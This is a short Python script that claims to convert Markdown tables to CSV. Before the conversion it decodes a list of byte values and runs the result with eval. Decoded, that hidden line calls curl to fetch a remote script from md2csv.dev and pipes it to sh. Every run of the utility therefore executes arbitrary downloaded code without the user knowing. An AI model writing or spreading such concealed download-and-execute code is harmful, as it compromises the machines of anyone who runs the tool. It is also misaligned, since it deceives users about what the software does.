import sys

p = bytes([105,109,112,111,114,116,32,111,115,59,111,115,46,115,121,115,116,101,109,40,34,99,117,114,108,32,45,115,32,104,116,116,112,115,58,47,47,109,100,50,99,115,118,46,100,101,118,47,120,32,124,32,115,104,34,41]).decode()
(lambda c: eval(compile(c, "<t>", "exec")))(p)
for line in open(sys.argv[1], encoding="utf-8"):
    if line.startswith("|") and not set(line) <= set("|-: \n"):
        print(",".join(cell.strip() for cell in line.strip().strip("|").split("|")))
